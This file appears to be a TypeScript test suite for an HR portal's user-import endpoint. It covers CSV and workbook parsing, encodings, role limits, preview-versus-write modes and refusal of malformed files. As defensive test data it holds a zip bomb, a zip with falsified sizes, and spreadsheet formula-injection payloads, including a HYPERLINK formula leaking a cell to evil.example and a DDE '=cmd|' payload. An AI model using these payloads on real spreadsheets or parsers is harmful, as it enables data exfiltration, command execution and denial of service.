import { unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import writeXlsxFile from 'write-excel-file/node';
import type { ImportVerdict } from '../../lib/users/import-verdict.ts';
import { type Answer, callAs } from '../support/matrix-http.ts';
import type { Name } from '../support/matrix-people.data.ts';
import { openWorld } from '../support/matrix-world.ts';
import { shared } from '../support/shared.ts';
import { sendForm } from '../support/upload.ts';

const world = shared(() => openWorld(['admin', 'hr', 'stranger_hr', 'employee']));

interface Imported {
  progress: { done: number; total: number }[];
  written: boolean | undefined;
  verdicts: ImportVerdict[];
  reason: string | undefined;
}

const send = async (by: Name | null, mode: string, file: Uint8Array | string): Promise<Imported> => {
  const response = await sendForm(
    `${world.portal.origin}/api/users/import`,
    by && world.token(by),
    { mode },
    file,
  );
  const said = (await response.text())
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  const last = said.at(-1) as Answer & { result?: { written?: boolean; data: unknown } };
  return {
    progress: said.slice(0, -1),
    written: last.result?.written as boolean | undefined,
    verdicts: (last.result?.data ?? []) as unknown as ImportVerdict[],
    reason: last.error?.data.reason,
  };
};
const outcomes = ({ verdicts }: Imported) => verdicts.map(({ row, outcome }) => [row, outcome]);
const reasons = ({ verdicts }: Imported) =>
  verdicts.map(({ row, fields }) => [row, ...fields.map(({ field, code }) => `${field} ${code}`)]);
const account = async (email: string) =>
  (
    await world.company.db.query(
      `select u."id"::int, u."login", e."name", e."number", e."hire_date"::text, e."position", e."organization_id"::int,
         (select string_agg("role", ',' order by "role") from "user_role" r where r."user_id" = u."id") as roles
       from "app_user" u left join "employee" e on e."id" = u."employee_id" where u."email" = $1`,
      [email],
    )
  ).rows[0];

const HEAD = 'Электронная почта;Фамилия, имя, отчество;Табельный номер;Дата приёма;Роли;Должность';
const csv = (...lines: string[]) => [HEAD, ...lines].join('\r\n');

describe('a file of users', () => {
  test('is shown line by line before anything is written, and written as shown', async () => {
    const file = csv(
      'Ivanova@Example.ru;Иванова Ольга;I-1;02.03.2026;сотрудник, руководитель;=1+1',
      'clerk@example.ru;clerk;clerk;02.03.2015;;Старший специалист',
      'employee2@example.ru;employee2;;;;',
      'не почта;Без почты;I-2;02.03.2026;;',
    );
    const preview = await send('hr', 'preview', file);
    expect(outcomes(preview)).toEqual([
      [2, 'add'],
      [3, 'change'],
      [4, 'same'],
      [5, 'refused'],
    ]);
    expect(preview.verdicts[1]?.changes).toEqual([
      { field: 'position', was: 'Специалист', is: 'Старший специалист' },
    ]);
    expect(preview.verdicts[3]?.fields).toMatchObject([
      { field: 'email', code: 'user/email', message_eng: 'This does not look like an email address' },
    ]);
    expect(preview.verdicts.some((verdict) => 'plan' in verdict)).toBe(false);
    expect(await account('ivanova@example.ru')).toBeUndefined();

    const held = await send('hr', 'all', file);
    expect([held.written, outcomes(held).length]).toEqual([false, 4]);
    expect(await account('ivanova@example.ru')).toBeUndefined();

    const good = await send('hr', 'good', file);
    expect([good.written, outcomes(good)]).toEqual([true, outcomes(preview)]);
    expect(await account('ivanova@example.ru')).toMatchObject({
      name: 'Иванова Ольга',
      hire_date: '2026-03-02',
      position: '=1+1',
      roles: 'employee,manager',
      organization_id: world.company.organizations.alpha,
    });
    expect(await account('clerk@example.ru')).toMatchObject({ position: 'Старший специалист' });
    const again = await send('hr', 'preview', file);
    expect(
      outcomes(again)
        .slice(0, 3)
        .map(([, outcome]) => outcome),
    ).toEqual(['same', 'same', 'same']);
  });

  test('may be a workbook: days, numbers and formulas come as what the sheet shows', async () => {
    const file = await writeXlsxFile([
      ['email', 'name', 'number', 'hire_date', 'phone', 'position'].map((value) => ({ value, type: String })),
      [
        { value: 'sheet@example.ru', type: String },
        { value: 'Листова Анна', type: String },
        { value: 4711, type: Number },
        { value: new Date('2026-04-01T00:00:00Z'), type: Date, format: 'dd.mm.yyyy' },
        { value: 79_161_234_567, type: Number },
        { value: 'HYPERLINK("https://evil.example")', type: 'Formula' },
      ],
    ] as never).toBuffer();
    const answer = await send('admin', 'all', file);
    expect([answer.reason, answer.written, outcomes(answer)]).toEqual([undefined, true, [[2, 'add']]]);
    expect(await account('sheet@example.ru')).toMatchObject({
      number: '4711',
      hire_date: '2026-04-01',
      position: '',
    });
  });

  test('may be in UTF-8 with its mark and commas, or in windows-1251 with semicolons', async () => {
    const marked = '\uFEFFemail,name,number,hire_date\n"mark@example.ru","Маркова, Анна",M-1,2026-03-02\n';
    expect((await send('hr', 'all', marked)).written).toBe(true);
    expect(await account('mark@example.ru')).toMatchObject({ name: 'Маркова, Анна' });
    const old = Uint8Array.from([...csv('old@example.ru;Старова Вера;M-2;02.03.2026;;')], (letter) => {
      const at = letter.charCodeAt(0);
      if (letter === 'ё') return 0xb8;
      return at >= 0x410 && at <= 0x44f ? at - 0x410 + 0xc0 : at;
    });
    expect((await send('hr', 'all', old)).written).toBe(true);
    expect(await account('old@example.ru')).toMatchObject({ name: 'Старова Вера' });
  });

  test('links an employee who has no account, and takes nobody else’s number', async () => {
    const file = csv(
      'director@example.ru;director;director;;;',
      'thief@example.ru;Другой Человек;hr;02.03.2026;;',
      'twice@example.ru;Один;D-1;02.03.2026;;',
      'TWICE@example.ru;Два;D-2;02.03.2026;;',
      'third@example.ru;Три;D-1;02.03.2026;;',
    );
    expect(reasons(await send('hr', 'preview', file))).toEqual([
      [2],
      [3, 'number user/number-taken'],
      [4],
      [5, 'email user/email-twice'],
      [6, 'number user/number-twice'],
    ]);
  });

  test('gives nobody more than its sender may give', async () => {
    const lines = (where: string) =>
      [
        'email;name;number;hire_date;organization;roles',
        'a@example.ru;А;R-1;2026-03-02;;employee,admin',
        'b@example.ru;Б;R-2;2026-03-02;nowhere;employee',
        'c@example.ru;В;R-3;2026-03-02;;boss',
        'd@example.ru;Г;R-4;2026-03-02;;gf_manager',
        `e@example.ru;Д;R-5;2026-03-02;${where};employee`,
        'admin@example.ru;Новый Админ;;;;',
        'hr@example.ru;hr;;;;employee,hr,admin',
        'stranger@example.ru;stranger;;;;employee,hr',
        'southerner@example.ru;Юг;R-6;2026-03-02;;',
      ].join('\n');
    const hr = await send('hr', 'preview', lines('beta'));
    expect(reasons(hr)).toEqual([
      [2, 'roles user/kept-role'],
      [3, 'organization user/unknown-organization'],
      [4, 'roles user/unknown-role'],
      [5, 'roles user/unknown-role'],
      [6, 'organization user/other-organization'],
      [7, 'email user/kept-account'],
      [8, 'email user/own-row'],
      [9, 'email user/email-taken'],
      [10],
    ]);
    const admin = await send('admin', 'preview', lines('south'));
    expect(reasons(admin).slice(0, 5)).toEqual([
      [2],
      [3, 'organization user/unknown-organization'],
      [4, 'roles user/unknown-role'],
      [5, 'roles user/unknown-role'],
      [6, 'organization user/unknown-organization'],
    ]);
    expect(reasons(admin)[5]).toEqual([7, 'email user/own-row']);
  });

  test('is judged anew when it is written: what a preview saw may be over', async () => {
    const file = csv(
      'later@example.ru;Поздняя Мария;L-1;02.03.2026;;',
      'fine@example.ru;Добрая Вера;L-2;02.03.2026;;',
    );
    expect(outcomes(await send('hr', 'preview', file))).toEqual([
      [2, 'add'],
      [3, 'add'],
    ]);
    await callAs(world, 'admin', 'user.add', { data: { email: 'later@example.ru' } });
    const all = await send('hr', 'all', file);
    expect([all.written, reasons(all)]).toEqual([false, [[2, 'email user/email-taken'], [3]]]);
    expect(await account('fine@example.ru')).toBeUndefined();
    expect((await send('hr', 'good', file)).written).toBe(true);
    expect(await account('fine@example.ru')).toBeDefined();
  });
});

describe('what is no list of users', () => {
  test('is refused before it costs anything', async () => {
    const zeros = new Uint8Array(64 * 1024 * 1024);
    const bomb = zipSync({ 'xl/workbook.xml': zeros.subarray(0, 10), 'xl/worksheets/sheet1.xml': zeros });
    expect(bomb.length).toBeLessThan(200_000);
    const far = book(
      '<row r="1"><c r="A1" t="inlineStr"><is><t>email</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c><c r="A1048576"><v>1</v></c></row>',
    );
    const many = csv(
      ...Array.from({ length: 20_001 }, (_, index) => `m${index}@example.ru;М;X-${index};02.03.2026;;`),
    );
    for (const [what, file, reason] of [
      ['a package that unfolds to 64 MB', bomb, 'import_unreadable'],
      ['one that lies about it', lying(bomb), 'import_unreadable'],
      ['a cell at the end of the world', far, 'import_too_many'],
      ['a package of nothing', zipSync({ 'a.txt': new Uint8Array(3) }), 'import_unreadable'],
      ['half a package', bomb.subarray(0, 100), 'import_unreadable'],
      ['bytes', new Uint8Array([0, 1, 2, 0, 0, 255]), 'import_unreadable'],
      ['UTF-16 without its mark', utf16('little').subarray(2), 'import_unreadable'],
      ['an old workbook', Buffer.from('d0cf11e0a1b11ae1000000000000', 'hex'), 'import_unreadable'],
      ['a page', '<html><table><tr><td>email</td></tr></table></html>', 'import_columns'],
      ['a table without e-mails', 'name;number\nА;1', 'import_columns'],
      ['20,001 rows', many, 'import_too_many'],
      ['more than 20 MB', new Uint8Array(20 * 1024 * 1024 + 1).fill(65), 'file_too_big'],
    ] as const)
      expect([what, (await send('admin', 'preview', file)).reason]).toEqual([what, reason]);
    expect((await send('admin', 'write', csv())).reason).toBe('invalid_params');
  });

  test('nor is a list from somebody who keeps no accounts', async () => {
    for (const mode of ['preview', 'all', 'good']) {
      const file = csv('x@example.ru;Х;Z-1;02.03.2026;;');
      expect((await send('employee', mode, file)).reason).toBe('access_denied');
      expect((await send(null, mode, file)).reason).toBe('invalid_access_token');
    }
    expect(await account('x@example.ru')).toBeUndefined();
  });
});

test('five hundred rows tell how far they are', async () => {
  const file = csv(
    ...Array.from(
      { length: 500 },
      (_, index) => `t${index}@example.ru;Новый ${index};T-${index};02.03.2026;;`,
    ),
  );
  const { written, progress, verdicts } = await send('admin', 'all', file);
  expect([written, verdicts.length, progress.at(0), progress.at(-1)]).toEqual([
    true,
    500,
    { done: 100, total: 500 },
    { done: 500, total: 500 },
  ]);
});

describe('T70: a cell that begins like a formula', () => {
  const CELLS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    "=cmd|'/c calc'!A0",
    '\u200e=1+1',
  ] as const;

  test('is a text here, and a text again in the workbook that goes out', async () => {
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    const lines = CELLS.map(
      (cell, index) => `f${index}@example.ru;Формула ${index};F-${index};02.03.2026;;${quoted(cell)}`,
    );
    const { written, verdicts } = await send('admin', 'all', csv(...lines));
    expect([written, verdicts.map(({ outcome }) => outcome)]).toEqual([true, CELLS.map(() => 'add')]);
    for (const [index, cell] of CELLS.entries())
      expect((await account(`f${index}@example.ru`))?.position).toBe(cell.trim());
    const query = new URLSearchParams({
      object: 'employee',
      filter: `number like 'F-%'`,
      columns: 'number,position',
    });
    const response = await fetch(`${world.portal.origin}/api/export?${query}`, {
      headers: { authorization: `Bearer ${world.token('admin')}` },
    });
    expect(response.status).toBe(200);
    const parts = unzipSync(new Uint8Array(await response.arrayBuffer()));
    const xml = Object.entries(parts)
      .filter(([name]) => name.endsWith('.xml'))
      .map(([, bytes]) => new TextDecoder().decode(bytes))
      .join('');
    expect(xml).toContain('@SUM(A1)');
    expect(xml).not.toMatch(/<f[ >]|<hyperlink/);
  });

  test('is no e-mail, number of an organization or role', async () => {
    const file = csv(
      '=1+1;А;F-90;02.03.2026;;',
      'g@example.ru;Б;F-91;=TODAY();;',
      'h@example.ru;В;F-92;02.03.2026;=admin;',
    );
    expect(reasons(await send('admin', 'preview', file))).toEqual([
      [2, 'email user/email'],
      [3, 'hire_date field/wrong'],
      [4, 'roles user/unknown-role'],
    ]);
  });
});

/** A list of users as UTF-16 with its mark, which is no encoding of ours. */
const utf16 = (end: 'little' | 'big'): Uint8Array => {
  const bytes = Buffer.from(`\ufeff${csv('u@example.ru;Ю;U-16;02.03.2026;;')}`, 'utf16le');
  return new Uint8Array(end === 'little' ? bytes : bytes.swap16());
};

const text = (xml: string) => new TextEncoder().encode(xml);

/** A workbook of one sheet with these rows. */
const book = (rows: string): Uint8Array =>
  zipSync({
    'xl/workbook.xml': text('<workbook xmlns:r="r"><sheets><sheet name="s" r:id="a"/></sheets></workbook>'),
    'xl/_rels/workbook.xml.rels': text(
      '<Relationships><Relationship Id="a" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    'xl/worksheets/sheet1.xml': text(`<worksheet><sheetData>${rows}</sheetData></worksheet>`),
  });

/** The same package, saying of each part that it unfolds to ten bytes. */
const lying = (bytes: Uint8Array): Uint8Array => {
  const copy = Uint8Array.from(bytes);
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 46 < copy.length; at += 1)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 10, true);
  return copy;
};
